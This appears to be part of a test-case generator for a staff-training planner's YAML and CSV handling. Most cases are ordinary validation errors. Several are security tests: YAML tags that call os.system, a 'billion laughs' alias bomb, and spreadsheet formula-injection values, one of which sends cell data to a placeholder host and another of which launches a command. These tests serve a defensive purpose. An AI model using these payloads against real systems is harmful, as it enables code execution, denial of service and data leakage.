config_case("in_post_missing", "  in_post: [Active Assignment, Internal Secondment, Acting Up]\n", "",
            ["staff_list.in_post", "missing", "Active Assignment"])
case("config_base_ok_plan", "cfg_ok.yaml", 0, args=TINY_PLAN + ["--config", "{file}"])
config_case("syntax_error", "    hours: 3.5\n", "    hours: 3.5: half a day\n", ["re:line {line}, column \\d+"])
config_case("tab_indent", "    hours: 7.5\n    delivery: face_to_face\n    cohort_size: 16\n",
            "    hours: 7.5\n\tdelivery: face_to_face\n    cohort_size: 16\n", ["re:line {line}, column \\d+"],
            report="\tdelivery")
config_case("duplicate_key", "    cohort_size: 30\n", "    cohort_size: 30\n    hours: 6\n", ["line {line}", "duplicate", "hours"],
            report="    hours")
config_case("unknown_key", "    cohort_size: 30\n", "    cohort_sise: 30\n", ["line {line}", "did you mean 'cohort_size'"])
config_case("unknown_top_key", "membership:\n", "membrship:\n", ["line {line}", "did you mean 'membership'"])
config_case("wrong_type", "    hours: 4\n", "    hours: four\n", ["line {line}", "hours", "number"])
config_case("coverage_over_1", "    coverage: 0.8\n", "    coverage: 1.5\n", ["line {line}", "coverage", "1.5"])
config_case("coverage_nan", "    coverage: 0.8\n", "    coverage: .nan\n", ["line {line}", "coverage"])
config_case("negative_hours", "    hours: 22.5\n", "    hours: -22.5\n", ["line {line}", "hours", "-22.5"])
config_case("infinite_hours", "    hours: 52.5\n", "    hours: .inf\n", ["line {line}", "hours"])
config_case("cohort_size_0", "    cohort_size: 16\n", "    cohort_size: 0\n", ["line {line}", "cohort_size"])
config_case("cohort_size_inf", "    cohort_size: 16\n", "    cohort_size: .inf\n", ["line {line}", "cohort_size"])
config_case("delivery_no", "    delivery: virtual\n", "    delivery: no\n", ["line {line}", "delivery", "re:virtual|quote"])
YES_NO = "    default: medium\n    values: {low: [], medium: [], high: []}\n"
YES_NO_WORDS = "    default: no\n    values: {no: [{level: middle_managers, multiply: coverage, by: 0.8}], yes: []}\n"
config_case("words_yes_no", YES_NO, YES_NO_WORDS,
            None, exit_=0)
config_case("words_yes_no_plan", YES_NO, YES_NO_WORDS,
            None, exit_=0, args=TINY_PLAN + ["--config", "{file}", "--leadership-commitment", "yes"])
config_case("undefined_module", "modules: [board_development]}", "modules: [board_development, board_away_day]}",
            ["line {line}", "board_away_day"])
config_case("undefined_level", "dose: {includes: [senior_leaders]}", "dose: {includes: [senior_leader]}",
            ["line {line}", "did you mean 'senior_leaders'"])
config_case("includes_cycle", "    dose: {modules: [intro_online, intro_workshop]}\n",
            "    dose: {includes: [board], modules: [intro_online, intro_workshop]}\n", ["re:line \\d+", "cycle"])
config_case("bad_regex", "position_title: ['^director of']", "position_title: ['^director of (']",
            ["line {line}", "regular expression"])
config_case("python_tag", "hours_per_day: 7.5\n",
            f'hours_per_day: !!python/object/apply:os.system ["touch {PWNED}"]\n', ["line {line}", "tag"],
            must_not_exist=PWNED)
config_case("python_tag_plan", "hours_per_day: 7.5\n",
            f'hours_per_day: !!python/object/apply:os.system ["touch {PWNED}"]\n', ["line {line}", "tag"],
            must_not_exist=PWNED, args=TINY_PLAN + ["--config", "{file}"])
config_case("python_name_tag", "    recorded_as: [Pocket QI]\n",
            "    recorded_as: !!python/name:os.system\n", ["line {line}", "tag"])
# "billion laughs": nine levels of ten aliases; tested in a subprocess with a memory limit, not from cases.yaml
bomb = ["a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
for prev, name in zip("abcdefgh", "bcdefghi"):
    bomb.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 10) + "]")
write("cfg_alias_bomb.yaml", "\n".join(bomb) + "\n")
case("config_empty", write("cfg_empty.yaml", ""), 2, ["cfg_empty.yaml", "empty"], args=CHECK)
case("config_comments_only", write("cfg_comments_only.yaml", "# nothing but a comment\n"), 2,
     ["cfg_comments_only.yaml", "empty"], args=CHECK)
case("config_a_list", write("cfg_list.yaml", "- modules\n- levels\n"), 2, ["cfg_list.yaml", "mapping"], args=CHECK)
case("config_not_utf8", write("cfg_cp1252.yaml", "# Café policy\n" + CONFIG_BASE, "cp1252"), 2,
     ["cfg_cp1252.yaml", "UTF-8"], args=CHECK)
case("config_is_a_directory", "folder_not_file", 2, ["folder_not_file", "directory"], args=CHECK)

# -- organisation profiles ----------------------------------------------------------------------

ORG = TINY_PLAN + ["--org", "{file}"]
case("profile_ok", write("org_ok.yaml", "name: Example NHS Foundation Trust\nturnover: 12%\nmaturity: starting\n"), 0, args=ORG)
case("profile_turnover_text", write("org_turnover_abc.yaml", "name: Example NHS Foundation Trust\nturnover: abc\n"), 2,
     ["org_turnover_abc.yaml", "line 2", "turnover", "12%"], args=ORG)
case("profile_turnover_170", write("org_turnover_170.yaml", "turnover: 170%\n"), 2,
     ["org_turnover_170.yaml", "line 1", "turnover", "170%"], args=ORG)
case("profile_unknown_key", write("org_unknown_key.yaml", "name: Example\nturnovr: 0.12\n"), 2,
     ["org_unknown_key.yaml", "line 2", "did you mean 'turnover'"], args=ORG)
case("profile_maturity_word", write("org_maturity.yaml", "maturity: advanced\n"), 2,
     ["org_maturity.yaml", "line 1", "maturity", "developing"], args=ORG)
case("profile_learning_hours_negative", write("org_learning_negative.yaml", "learning_hours: -40\n"), 2,
     ["org_learning_negative.yaml", "line 1", "learning_hours"], args=ORG)
case("profile_services_text", write("org_services_text.yaml", "services: many\n"), 2,
     ["org_services_text.yaml", "line 1", "services"], args=ORG)
case("profile_services_fraction", write("org_services_fraction.yaml", "services: 12.5\n"), 2,
     ["org_services_fraction.yaml", "line 1", "whole number"], args=ORG)
case("profile_services_huge", write("org_services_huge.yaml", "services: 5000000\n"), 2,
     ["org_services_huge.yaml", "line 1", "1,000,000"], args=ORG)
case("profile_not_mapping", write("org_sentence.yaml", "Example NHS Foundation Trust, 12% turnover\n"), 2,
     ["org_sentence.yaml", "mapping"], args=ORG)
case("profile_python_tag", write("org_python_tag.yaml", f'name: !!python/object/apply:os.system ["touch {PWNED}"]\n'), 2,
     ["org_python_tag.yaml", "line 1", "tag"], args=ORG, must_not_exist=PWNED)
case("profile_duplicate_key", write("org_duplicate.yaml", "turnover: 10%\nturnover: 12%\n"), 2,
     ["org_duplicate.yaml", "line 2", "duplicate"], args=ORG)

# -- CSV output: spreadsheet formula injection --------------------------------------------------

rows = rows_copy()
evil = {"Corporate": '=HYPERLINK("http://example.invalid/?"&A1,"Open")', "Medicine": "+Medicine",
        "Surgery": "-Surgery", "Estates": "@SUM(1+1)*cmd|' /C calc'!A0"}
for r in rows:
    r[COL["Directorate"]] = evil.get(r[COL["Directorate"]], r[COL["Directorate"]])
write("formula_directorates.csv", to_text(rows))


def main() -> None:
    header = ("# Generated by make_bad.py: edit that, not this. One case per entry; see make_bad.py's docstring.\n")
    (HERE / "cases.yaml").write_text(header + yaml.safe_dump(CASES, sort_keys=False, allow_unicode=True, width=200,
                                                             default_flow_style=None),
                                     encoding="utf-8")
    print(f"{len(CASES)} cases, {len(list(HERE.iterdir()))} files in {HERE}")


if __name__ == "__main__":
    main()
